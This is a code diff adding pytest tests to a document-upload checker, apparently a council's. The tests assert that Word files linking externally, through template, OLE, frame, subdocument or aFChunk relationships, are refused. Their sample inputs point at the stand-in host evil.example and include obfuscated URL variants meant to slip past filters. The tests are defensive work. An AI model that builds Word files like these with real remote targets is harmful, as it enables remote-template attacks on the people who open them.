@@ -120,3 +120,24 @@ def test_a_pdf_with_a_thousand_pages_in_one_is_counted_and_not_followed_for_ever
     out = io.BytesIO()
     writer.write(out)
     assert refused(out.getvalue())
+
+
+def tied(kind: str, target: str) -> bytes:
+    """A Word file that is tied to something outside itself."""
+    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    ties = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="r1" Type="{types}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    return word(lambda parts: parts.writestr("word/_rels/settings.xml.rels", ties))
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk"])
+def test_a_word_file_that_opens_something_from_the_internet_with_itself_is_refused(kind):
+    for target in ("https://evil.example/x.dotm", " HTTP://evil.example/x", "&#104;ttps://evil.example/x"):
+        assert "from the internet" in refused(tied(kind, target), (DOCX,))
+
+
+def test_a_word_file_with_a_link_or_a_template_of_the_councils_own_is_taken():
+    own = tied("attachedTemplate", "file:///C:\\Templates\\Letter.dotx")
+    assert {check(data, (DOCX,)).kind for data in (own, tied("hyperlink", "https://learning.example/"))} == {DOCX}
